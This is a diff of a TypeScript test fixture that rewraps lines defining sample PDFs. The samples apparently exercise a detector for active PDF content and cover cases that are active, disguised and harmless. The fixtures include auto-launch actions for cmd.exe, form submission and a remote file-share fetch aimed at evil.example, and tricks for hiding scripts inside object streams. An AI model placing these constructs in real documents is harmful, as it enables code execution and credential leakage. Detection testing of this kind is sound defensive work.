@@ -14,15 +14,24 @@ const plain: [string, Buffer][] = [
   ['script of a page action', pdfWith({ page: inPage(`/AA << /O ${SCRIPT} >>`) })],
   ['action of a page', pdfWith({ page: inPage('/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>') })],
   ['launch', pdfWith({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
-  ['launch by a link', pdfWith({ page: inPage('/Annots [<< /Type /Annot /Subtype /Link /A << /S /Launch /F (a.exe) >> >>]') })],
-  ['launch, its type by reference', pdfWith({ catalog: '/OpenAction << /S 4 0 R /F (cmd.exe) >>', objects: ['/Launch'] })],
+  [
+    'launch by a link',
+    pdfWith({ page: inPage('/Annots [<< /Type /Annot /Subtype /Link /A << /S /Launch /F (a.exe) >> >>]') }),
+  ],
+  [
+    'launch, its type by reference',
+    pdfWith({ catalog: '/OpenAction << /S 4 0 R /F (cmd.exe) >>', objects: ['/Launch'] }),
+  ],
   ['embedded file', pdfWith({ catalog: '/Names << /EmbeddedFiles 4 0 R >>' })],
   [
     'embedded file by its file specification',
     pdfWith({ objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', stream('', 'MZ')] }),
   ],
   ['file attachment annotation', pdfWith({ page: inPage('/Annots [<< /Subtype /FileAttachment /FS 4 0 R >>]') })],
-  ['GoToR to a file share', pdfWith({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) /D [0 /Fit] >>' })],
+  [
+    'GoToR to a file share',
+    pdfWith({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) /D [0 /Fit] >>' }),
+  ],
   ['SubmitForm', pdfWith({ objects: ['<< /S /SubmitForm /F << /FS /URL /F (http://evil.example) >> >>'] })],
   ['ImportData', pdfWith({ objects: ['<< /S /ImportData /F (a.fdf) >>'] })],
   ['XFA form', pdfWith({ catalog: '/AcroForm << /XFA 4 0 R >>' })],
@@ -49,7 +58,10 @@ const disguised: [string, Buffer][] = [
   ['after an unmatched >>', pdfWith({ objects: ['<< /X >> endobj /JS (x) >>'] })],
   ['after a mismatched bracket', pdfWith({ objects: ['<< /X ] endobj /JS (x) >>'] })],
   ['in an array after keywords', pdfWith({ objects: [`[1 stream endobj ${SCRIPT}]`] })],
-  ['in an incremental update', Buffer.concat([pdfWith({}), Buffer.from(`4 0 obj\n${SCRIPT}\nendobj\ntrailer\n<<>>\n%%EOF\n`)])],
+  [
+    'in an incremental update',
+    Buffer.concat([pdfWith({}), Buffer.from(`4 0 obj\n${SCRIPT}\nendobj\ntrailer\n<<>>\n%%EOF\n`)]),
+  ],
 ];
 
 /** An object stream with a script and these dictionary entries. */
@@ -58,24 +70,45 @@ const scriptStream = (dictionary: (first: number, count: number) => string) => o
 /** Inside object streams. */
 const objectStreams: [string, Buffer][] = [
   ['object stream', pdfWith({ objects: [objectStream(['<< /A 1 >>', SCRIPT])] })],
-  ['object stream with a name tree', pdfWith({ objects: [objectStream(['<< /Names [(a) 21 0 R] >>', '<< /J#53 (x) >>'])] })],
+  [
+    'object stream with a name tree',
+    pdfWith({ objects: [objectStream(['<< /Names [(a) 21 0 R] >>', '<< /J#53 (x) >>'])] }),
+  ],
   ['object stream with a launch action', pdfWith({ objects: [objectStream(['<< /S /Launch /F (a.exe) >>'])] })],
-  ['object stream without its type', pdfWith({ objects: [scriptStream((first, count) => `/N ${count} /First ${first}`)] })],
+  [
+    'object stream without its type',
+    pdfWith({ objects: [scriptStream((first, count) => `/N ${count} /First ${first}`)] }),
+  ],
   [
     'object stream, its type by reference',
     pdfWith({ objects: [scriptStream((first, count) => `/Type 9 0 R /N ${count} /First ${first}`)] }),
   ],
-  ['object stream, its entries by reference', pdfWith({ objects: [scriptStream(() => '/Type /ObjStm /N 8 0 R /First 9 0 R')] })],
+  [
+    'object stream, its entries by reference',
+    pdfWith({ objects: [scriptStream(() => '/Type /ObjStm /N 8 0 R /First 9 0 R')] }),
+  ],
   [
     'object stream with two /First entries',
     pdfWith({ objects: [scriptStream((first, count) => `/Type /ObjStm /N ${count} /First 0 /First ${first}`)] }),
   ],
-  ['object stream with an offset inside a string', pdfWith({ objects: [objectStream([`(never ${SCRIPT}`], { offsets: () => [7] })] })],
-  ['object stream with an offset inside a comment', pdfWith({ objects: [objectStream([`% ${SCRIPT}`], { offsets: () => [2] })] })],
-  ['object stream with LZW', pdfWith({ objects: [scriptStream((first) => `/Type /ObjStm /N 1 /First ${first} /Filter /LZWDecode`)] })],
+  [
+    'object stream with an offset inside a string',
+    pdfWith({ objects: [objectStream([`(never ${SCRIPT}`], { offsets: () => [7] })] }),
+  ],
+  [
+    'object stream with an offset inside a comment',
+    pdfWith({ objects: [objectStream([`% ${SCRIPT}`], { offsets: () => [2] })] }),
+  ],
+  [
+    'object stream with LZW',
+    pdfWith({ objects: [scriptStream((first) => `/Type /ObjStm /N 1 /First ${first} /Filter /LZWDecode`)] }),
+  ],
   ['object stream with two filters', pdfWith({ objects: [doublyCompressed()] })],
   ['object stream without a filter', pdfWith({ objects: [objectStream([SCRIPT], { packed: false })] })],
-  ['corrupt object stream', pdfWith({ objects: [objectStream(['<< /A 1 >>']).replace(/stream\n.{6}/s, 'stream\nbroken')] })],
+  [
+    'corrupt object stream',
+    pdfWith({ objects: [objectStream(['<< /A 1 >>']).replace(/stream\n.{6}/s, 'stream\nbroken')] }),
+  ],
   ['encrypted object stream', pdfWith({ trailer: '/Encrypt 9 0 R', objects: [encrypted()] })],
   [
     'object stream with a ratio of 1,000:1',
@@ -97,7 +130,8 @@ function encrypted(): string {
 /** PDFs with active content. */
 export const ACTIVE_PDFS: readonly [name: string, bytes: Buffer][] = [...plain, ...disguised, ...objectStreams];
 
-const LINK = '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://city.example/JS/AA/Launch?a=\\(1\\)) >> >>';
+const LINK =
+  '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://city.example/JS/AA/Launch?a=\\(1\\)) >> >>';
 
 /** Harmless PDFs with content that a naive check takes for active. */
 export const ORDINARY_PDFS: readonly [name: string, bytes: Buffer][] = [
@@ -107,22 +141,44 @@ export const ORDINARY_PDFS: readonly [name: string, bytes: Buffer][] = [
     'OpenAction with a GoTo action',
     pdfWith({ catalog: '/OpenAction << /S /GoTo /D (start) >> /ViewerPreferences << /DisplayDocTitle true >>' }),
   ],
-  ['names of actions in the metadata', pdfWith({ objects: ['<< /Title (How /JS and /JavaScript /Launch \\( work) /Author <2F4A53> >>'] })],
-  ['names of actions in the page content', pdfWith({ objects: [stream('', 'BT (/JS /Launch << /AA >>) Tj ET', false)] })],
+  [
+    'names of actions in the metadata',
+    pdfWith({ objects: ['<< /Title (How /JS and /JavaScript /Launch \\( work) /Author <2F4A53> >>'] }),
+  ],
+  [
+    'names of actions in the page content',
+    pdfWith({ objects: [stream('', 'BT (/JS /Launch << /AA >>) Tj ET', false)] }),
+  ],
   ['names of actions in a comment', pdfWith({ loose: '% made by /JavaScript /JS, so to say\n' })],
-  ['fonts and pictures', pdfWith({ page: inPage('/Resources << /Font << /F1 4 0 R /TT1 4 0 R >> /XObject << /Im0 5 0 R >> >>') })],
+  [
+    'fonts and pictures',
+    pdfWith({ page: inPage('/Resources << /Font << /F1 4 0 R /TT1 4 0 R >> /XObject << /Im0 5 0 R >> >>') }),
+  ],
   ['a colour profile', pdfWith({ objects: [stream('/N 3 /Alternate /DeviceRGB', 'profile')] })],
   ['outlines', pdfWith({ objects: ['<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>'] })],
   [
     'object stream with a link',
-    pdfWith({ objects: [objectStream(['<< /Type /Annot /A << /S /URI /URI (http://a/JS/) >> >>', '[1 2 0 R]', '(a)', '12', '/Name'])] }),
+    pdfWith({
+      objects: [
+        objectStream(['<< /Type /Annot /A << /S /URI /URI (http://a/JS/) >> >>', '[1 2 0 R]', '(a)', '12', '/Name']),
+      ],
+    }),
   ],
   [
     'object stream with its filter in an array',
     pdfWith({ objects: [objectStream(['<< >>']).replace('/Filter /FlateDecode', '/Filter [/FlateDecode]')] }),
   ],
-  ['a fillable form', pdfWith({ catalog: '/AcroForm << /Fields [4 0 R] /DA (/Helv 0 Tf) >>', objects: ['<< /FT /Tx /T (name) /V () >>'] })],
-  ['a signature', pdfWith({ objects: ['<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 9 9 9] /Contents <00> >>'] })],
+  [
+    'a fillable form',
+    pdfWith({
+      catalog: '/AcroForm << /Fields [4 0 R] /DA (/Helv 0 Tf) >>',
+      objects: ['<< /FT /Tx /T (name) /V () >>'],
+    }),
+  ],
+  [
+    'a signature',
+    pdfWith({ objects: ['<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 9 9 9] /Contents <00> >>'] }),
+  ],
   [
     'an incremental update',
     Buffer.concat([pdfWith({}), Buffer.from('3 0 obj\n<< /Type /Page >>\nendobj\ntrailer\n<< /Prev 9 >>\n%%EOF\n')]),
